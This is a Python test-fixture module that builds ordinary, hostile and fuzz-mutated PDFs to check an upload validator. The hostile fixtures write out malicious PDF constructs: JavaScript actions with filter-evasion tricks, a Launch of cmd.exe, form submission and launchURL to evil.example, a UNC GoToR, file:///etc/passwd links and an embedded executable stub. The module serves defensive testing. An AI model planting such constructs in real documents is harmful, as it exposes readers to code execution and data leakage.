"""PDFs for the upload hardening tests, generated here (no binary fixtures): ordinary documents that must pass,
hostile ones that must be refused, and deterministic mutations of the ordinary ones.

`build` writes a PDF from numbered object bodies, with a classic cross-reference table or (objstm=...) with the
chosen objects inside a compressed object stream and a cross-reference stream, as office suites write them.
"""

import io
import random
import re
import struct
import zlib

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
CONTENT = b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 770 Td (Bye-laws) Tj ET\n\nendstream"


def base(replace: dict[int, bytes] | None = None) -> dict[int, bytes]:
    objects = {1: CATALOG, 2: PAGES, 3: PAGE, 4: CONTENT}
    objects.update(replace or {})
    return objects


def build(objects: dict[int, bytes], *, objstm: tuple[int, ...] = (), tail: bytes = b"") -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    size = max(objects) + 1
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        if num in objstm:
            continue
        offsets[num] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (num, objects[num]))
    if not objstm:
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
        for num in range(1, size):
            out.write(b"%010d 00000 n \n" % offsets[num] if num in offsets else b"0000000000 65535 f \n")
        out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref))
        return out.getvalue() + tail
    # Object stream: "num offset" pairs, then the bodies; a cross-reference stream lists every object.
    stm_num, xref_num = size, size + 1
    header, bodies = b"", b""
    for num in objstm:
        header += b"%d %d " % (num, len(bodies))
        bodies += objects[num] + b"\n"
    data = zlib.compress(header + bodies)
    offsets[stm_num] = out.tell()
    out.write(b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
              % (stm_num, len(objstm), len(header), len(data)) + data + b"\nendstream\nendobj\n")
    xref = out.tell()
    rows = b""
    for num in range(xref_num + 1):
        if num == xref_num:
            rows += struct.pack(">BIH", 1, xref, 0)
        elif num in objstm:
            rows += struct.pack(">BIH", 2, stm_num, objstm.index(num))
        elif num in offsets:
            rows += struct.pack(">BIH", 1, offsets[num], 0)
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    rows = zlib.compress(rows)
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
              b"stream\n" % (xref_num, xref_num + 1, len(rows)) + rows + b"\nendstream\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue() + tail


# ---- ordinary documents -----------------------------------------------------------------------------------

def weasyprint_with_links() -> bytes:
    """An office-style export: headings, a table, web and mail links, internal links (GoTo), Assamese text."""
    from weasyprint import HTML

    rows = "".join(f"<tr><td>{n}</td><td>Member {n}</td><td>₹ {n * 100}</td></tr>" for n in range(1, 60))
    html = f"""<html lang="en"><body>
      <h1 id="top">Bye-laws of the Borgaon Fishery Co-operative Society Limited</h1>
      <p>See <a href="https://rcs.assam.gov.in/">the Registrar's site</a>, write to
         <a href="mailto:rcs@assam.gov.in">rcs@assam.gov.in</a>, or jump to <a href="#members">the members</a>.</p>
      <p lang="as">সমবায় সমিতিৰ উপবিধি</p>
      <h2 id="members">Members</h2><table>{rows}</table>
      <p><a href="#top">Back to the top</a></p></body></html>"""
    return HTML(string=html).write_pdf()


def weasyprint_form() -> bytes:
    """A fillable form without scripts (AcroForm text fields, a checkbox, a choice)."""
    from weasyprint import HTML

    html = """<html><body><h1>Schedule-A declaration</h1><form>
      <p>Name <input type="text" name="name" value="Promoter 1"></p>
      <p>Address <textarea name="address">Borgaon</textarea></p>
      <p><input type="checkbox" name="agree" checked> I declare</p>
      <p><select name="district"><option>Sonitpur</option><option>Kamrup</option></select></p>
      </form></body></html>"""
    return HTML(string=html).write_pdf(pdf_forms=True)


def scan(pages: int = 2) -> bytes:
    """An image-only "scan" (JPEG pages, as a scanner or phone app writes them), made with Pillow."""
    from PIL import Image, ImageDraw

    images = []
    rng = random.Random(7)
    for page in range(pages):
        image = Image.new("L", (620, 877), 235)
        draw = ImageDraw.Draw(image)
        for line in range(40):
            y = 60 + line * 19
            draw.line([(50, y), (50 + rng.randint(200, 520), y)], fill=rng.randint(20, 90), width=3)
        draw.text((50, 20), f"Resolution of the promoters, page {page + 1}", fill=0)
        images.append(image)
    out = io.BytesIO()
    images[0].save(out, "PDF", resolution=75, save_all=True, append_images=images[1:])
    return out.getvalue()


def pypdf_with_bookmarks() -> bytes:
    """pypdf output with bookmarks, an open action that goes to page 2, a URI link annotation, page labels, and
    an incremental update (a second cross-reference section with /Prev)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.annotations import Link
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NullObject

    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(width=595, height=842)
    writer.add_outline_item(title="Chapter 1", page_number=0)
    writer.add_outline_item(title="Chapter 2", page_number=1)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.org/bye-laws"))
    writer.add_annotation(0, Link(rect=(50, 100, 200, 130), target_page_index=2))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/GoTo"),
        NameObject("/D"): ArrayObject([writer.pages[1].indirect_reference, NameObject("/XYZ"), NullObject(),
                                       NullObject(), FloatObject(0)])})
    writer.set_page_label(0, 2, style="/r")
    writer.add_metadata({"/Title": "Viability scheme", "/Author": "Chief promoter"})
    first = io.BytesIO()
    writer.write(first)
    update = PdfWriter(PdfReader(io.BytesIO(first.getvalue())), incremental=True)
    update.add_metadata({"/Subject": "Revised"})
    out = io.BytesIO()
    update.write(out)
    return out.getvalue()


def object_stream_document() -> bytes:
    """A plain page whose objects sit in an object stream (cross-reference stream)."""
    return build(base(), objstm=(1, 2, 3))


def padded(size: int) -> bytes:
    """A valid one-page PDF of about `size` bytes (an uncompressed stream of random bytes nobody draws)."""
    filler = random.Random(size).randbytes(size)
    return build(base({5: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(filler), filler)}))


def ordinary() -> dict[str, bytes]:
    return {"weasyprint_links.pdf": weasyprint_with_links(), "weasyprint_form.pdf": weasyprint_form(),
            "scan.pdf": scan(), "bookmarks.pdf": pypdf_with_bookmarks(), "objstm.pdf": object_stream_document()}


# ---- hostile documents: (name, bytes, the refusal code societies.pdfcheck must give) ------------------------

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def hostile() -> list[tuple[str, bytes, str]]:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A %s >>"
    page_with = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>"
    compressed_js = zlib.compress(b"app.launchURL('https://evil.example/');")
    cases = [
        ("open_action_js.pdf", build(base({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", 5: JS})),
         "javascript"),
        ("page_open_js.pdf", build(base({3: page_with % b"/AA << /O 5 0 R >>", 5: JS})), "javascript"),
        ("link_js.pdf", build(base({3: page_with % b"/Annots [5 0 R]", 5: link % JS})), "javascript"),
        ("escaped_names.pdf", build(base({
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >> >>"})),
         "javascript"),
        ("objstm_js.pdf", build(base({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", 5: JS}),
                                objstm=(1, 2, 5)), "javascript"),
        ("js_stream.pdf", build(base({
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 5 0 R >> >>",
            5: b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(compressed_js), compressed_js)})),
         "javascript"),
        ("names_js.pdf", build(base({
            1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>", 5: JS})),
         "javascript"),
        ("unreferenced_js.pdf", build(base({5: JS})), "javascript"),
        ("hidden_after_eof.pdf", build(base(), tail=b"9 0 obj\n" + JS + b"\nendobj\n"), "javascript"),
        ("xfa.pdf", build(base({1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> >>",
                                  5: b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream"})), "javascript"),
        ("launch.pdf", build(base({3: page_with % b"/Annots [5 0 R]",
                                     5: link % b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>"})),
         "launch"),
        ("submit_form.pdf", build(base({
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
            3: page_with % b"/Annots [5 0 R]",
            5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 100 20] /P 3 0 R "
               b"/AA << /K << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >> >>"})), "submit_form"),
        ("import_data.pdf", build(base({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction "
                                             b"<< /S /ImportData /F (data.fdf) >> >>"})), "import_data"),
        ("rich_media.pdf", build(base({3: page_with % b"/Annots [5 0 R]",
                                         5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"})),
         "rich_media"),
        ("embedded_files.pdf", build(base({
            1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >> >>",
            5: b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>",
            6: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"})), "embedded_file"),
        ("file_attachment.pdf", build(base({
            3: page_with % b"/Annots [5 0 R]",
            5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (x.exe) >>"})), "embedded_file"),
        ("goto_embedded.pdf", build(base({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction "
                                               b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (x) >> >> >>"})),
         "embedded_file"),
        ("goto_remote.pdf", build(base({3: page_with % b"/Annots [5 0 R]",
                                          5: link % b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"})),
         "other_file"),
        ("javascript_uri.pdf", build(base({3: page_with % b"/Annots [5 0 R]",
                                             5: link % b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"})), "bad_link"),
        ("file_uri.pdf", build(base({3: page_with % b"/Annots [5 0 R]",
                                       5: link % b"<< /S /URI /URI (file:///etc/passwd) >>"})), "bad_link"),
        ("next_chain_js.pdf", build(base({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction "
                                               b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >> >>", 5: JS})),
         "javascript"),
        # Parser traps: each is a refusal that names the file, never an error page.
        ("no_pages.pdf", build(base({2: b"<< /Type /Pages /Kids [] /Count 0 >>"})), "no_pages"),
        ("truncated.pdf", build(base())[:60], "unreadable"),
        ("nested.pdf", build(base({5: b"[" * 50_000 + b"]" * 50_000})), "unreadable"),
        ("page_loop.pdf", build(base({2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})), "unreadable"),
    ]
    return cases


# ---- mutations ----------------------------------------------------------------------------------------------

_NAMES = [b"/JavaScript", b"/JS", b"/Launch", b"/Kids", b"/Page", b"/Pages", b"/Length", b"/Filter",
          b"/FlateDecode", b"/ObjStm", b"/XRef", b"/Annots", b"/Parent", b"/Type", b"/Count", b"/Prev", b"/N",
          b"/First", b"/W", b"/Index", b"/DecodeParms", b"/Predictor", b"/Columns", b"/ASCIIHexDecode",
          b"/LZWDecode", b"/RunLengthDecode", b"/CCITTFaxDecode", b"/DCTDecode", b"/Encrypt", b"/J#53"]
_NUMBERS = [b"0", b"-1", b"1", b"2147483648", b"99999999999999999999", b"1e308", b"0.0", b"-0", b"65535", b"3.4e38"]
_TOKEN = re.compile(rb"/[A-Za-z][A-Za-z0-9]*|-?[0-9]+(?:\.[0-9]+)?")


def mutate(data: bytes, rng: random.Random) -> bytes:
    """One deterministic mutation: byte flips, random spans, deletions, duplications, truncation, or swapped
    numbers and names (the tokens a parser trusts)."""
    data = bytearray(data)
    kind = rng.randrange(8)
    n = len(data)
    if kind == 0:
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(n)] = rng.randrange(256)
    elif kind == 1:
        start = rng.randrange(n)
        data[start:start + rng.randint(1, 64)] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
    elif kind == 2:
        start = rng.randrange(n)
        del data[start:start + rng.randint(1, 512)]
    elif kind == 3:
        start = rng.randrange(n)
        chunk = data[start:start + rng.randint(1, 256)]
        at = rng.randrange(n)
        data[at:at] = chunk * rng.randint(1, 4)
    elif kind == 4:
        data = data[:rng.randrange(8, n)]
    else:
        tokens = list(_TOKEN.finditer(data))
        if tokens:
            match = rng.choice(tokens)
            choices = _NAMES if kind == 5 else _NUMBERS if kind == 6 else _NAMES + _NUMBERS
            data[match.start():match.end()] = rng.choice(choices)
    return bytes(data)


def mutated(corpus: dict[str, bytes], count: int, seed: int = 11) -> list[tuple[str, bytes]]:
    rng = random.Random(seed)
    sources = list(corpus.items())
    out = []
    for number in range(count):
        name, data = sources[number % len(sources)]
        for _ in range(rng.choice((1, 1, 1, 2, 3))):
            data = mutate(data, rng)
        out.append((f"mutant-{number:04d}-{name}", data))
    return out
